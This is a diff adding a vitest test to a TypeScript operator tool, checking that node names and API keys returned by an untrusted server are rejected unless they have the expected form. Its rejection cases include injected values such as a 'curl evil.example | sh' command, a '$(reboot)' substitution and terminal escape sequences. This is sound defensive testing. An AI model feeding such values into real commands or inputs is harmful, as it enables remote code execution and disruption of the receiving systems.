@@ -3,6 +3,7 @@ import { afterEach, beforeEach, describe, expect, test } from "vitest";
 import { provenCredential } from "../src/operator/proven-credential.ts";
 import { resealCredential } from "../src/operator/reseal-credential.ts";
 import { findNodes } from "../src/operator/roster-nodes.ts";
+import { apiKeyItMade, nameItSaid } from "../src/operator/server-said.ts";
 import { type ListedNode, LyingServer, openedBy, type Sealed } from "./lying-server.ts";
 
 const MILD = "mild_0123456789abcdefghijklmnopqrstuvwxyz";
@@ -118,4 +119,14 @@ describe("a node that an operator names is the one that was confirmed by that na
     server.shownNodes.set("n3", { id: taken.nodeId, name: "n3" });
     await expect(find("n3")).rejects.toMatchObject(untrusted);
   });
+});
+
+test("what a server made or named is part of no command and on no terminal unless it has that form", () => {
+  const key = `gha_0123abcd_${"A".repeat(43)}`;
+  expect(apiKeyItMade(key)).toBe(key);
+  expect(nameItSaid("n1")).toBe("n1");
+  for (const lie of ["", "n1; curl evil.example | sh", "n1\n$(reboot)", "\u001b]0;x\u0007n1", "-x", `${key}\u009b2J`]) {
+    expect(() => nameItSaid(lie), lie).toThrow(expect.objectContaining({ code: "server.untrusted" }));
+    expect(() => apiKeyItMade(lie), lie).toThrow(expect.objectContaining({ code: "server.untrusted" }));
+  }
 });
